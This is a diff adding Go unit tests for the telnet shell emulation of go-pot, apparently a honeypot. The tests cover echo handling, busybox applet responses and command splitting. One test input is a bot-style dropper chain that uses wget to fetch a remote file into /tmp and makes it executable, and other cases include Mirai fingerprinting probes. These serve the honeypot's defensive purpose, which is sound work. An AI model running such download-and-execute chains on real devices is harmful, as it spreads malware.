@@ -0,0 +1,113 @@
+package telnet
+
+import (
+	"bytes"
+	"testing"
+	"time"
+
+	"github.com/ryanolee/go-pot/core/stall"
+)
+
+type bufferConn struct {
+	bytes.Buffer
+}
+
+func (*bufferConn) Close() error {
+	return nil
+}
+
+func TestEcho(t *testing.T) {
+	tests := []struct {
+		args []string
+		want string
+	}{
+		{args: nil, want: "\n"},
+		{args: []string{"hello", "world"}, want: "hello world\n"},
+		{args: []string{"-n", "hello"}, want: "hello"},
+		{args: []string{"-e", `'\x41\x42'`}, want: "AB\n"},
+		{args: []string{"-ne", `"\x7f\x45LF"`}, want: "\x7fELF"},
+		{args: []string{"-e", "-n", `\0101\t\n`}, want: "A\t\n"},
+		{args: []string{"-x", "hello"}, want: "-x hello\n"},
+		{args: []string{"-"}, want: "-\n"},
+		{args: []string{`\x41`}, want: "\\x41\n"},
+		{args: []string{"-e", `\x`}, want: "\\x\n"},
+	}
+
+	for _, test := range tests {
+		if got := echo(test.args); got != test.want {
+			t.Errorf("echo(%q) expected %q got %q", test.args, test.want, got)
+		}
+	}
+}
+
+// Applets run through busybox print the same as when run directly. Bots use this to fingerprint the shell
+func TestRunCommand(t *testing.T) {
+	tests := []struct {
+		command string
+		want    string
+	}{
+		{command: `echo -e '\x41'`, want: "A\r\n"},
+		{command: `busybox echo -e '\x41'`, want: "A\r\n"},
+		{command: `/bin/busybox echo -n hello`, want: "hello"},
+		{command: `/bin/echo hello`, want: "hello\r\n"},
+		{command: `busybox MIRAI`, want: "MIRAI: applet not found\r\n"},
+		{command: `MIRAI`, want: "-sh: MIRAI: not found\r\n"},
+		{command: `echo hello > /tmp/file`, want: ""},
+		{command: `busybox`, want: normalise(busyboxUsage)},
+		{command: `   `, want: ""},
+	}
+
+	for _, test := range tests {
+		s, output := newTestSession(t)
+		if err := s.runCommand(test.command); err != nil {
+			t.Fatalf("runCommand(%q) failed with %v", test.command, err)
+		}
+
+		if got := output.String(); got != test.want {
+			t.Errorf("runCommand(%q) expected %q got %q", test.command, test.want, got)
+		}
+	}
+}
+
+func TestSplitCommands(t *testing.T) {
+	tests := []struct {
+		line string
+		want []string
+	}{
+		{line: "", want: []string{}},
+		{line: "cd /tmp; wget http://x/y && chmod 777 y || busybox rm y", want: []string{"cd /tmp", "wget http://x/y", "chmod 777 y", "busybox rm y"}},
+		{line: ";;&& ||", want: []string{}},
+	}
+
+	for _, test := range tests {
+		got := splitCommands(test.line)
+		if len(got) != len(test.want) {
+			t.Fatalf("splitCommands(%q) expected %q got %q", test.line, test.want, got)
+		}
+
+		for i := range got {
+			if got[i] != test.want[i] {
+				t.Errorf("splitCommands(%q) expected %q got %q", test.line, test.want, got)
+			}
+		}
+	}
+}
+
+func newTestSession(t *testing.T) (*session, *bufferConn) {
+	t.Helper()
+
+	scheduler := stall.NewSchedulerWithOptions(&stall.SchedulerOptions{Tick: time.Millisecond})
+	scheduler.Start()
+	t.Cleanup(scheduler.Stop)
+
+	output := &bufferConn{}
+	return &session{
+		server: &Server{hostname: "router"},
+		staller: stall.NewConnStaller(&stall.ConnStallerOptions{
+			Conn:         output,
+			TransferRate: time.Microsecond,
+			Scheduler:    scheduler,
+		}),
+		user: "root",
+	}, output
+}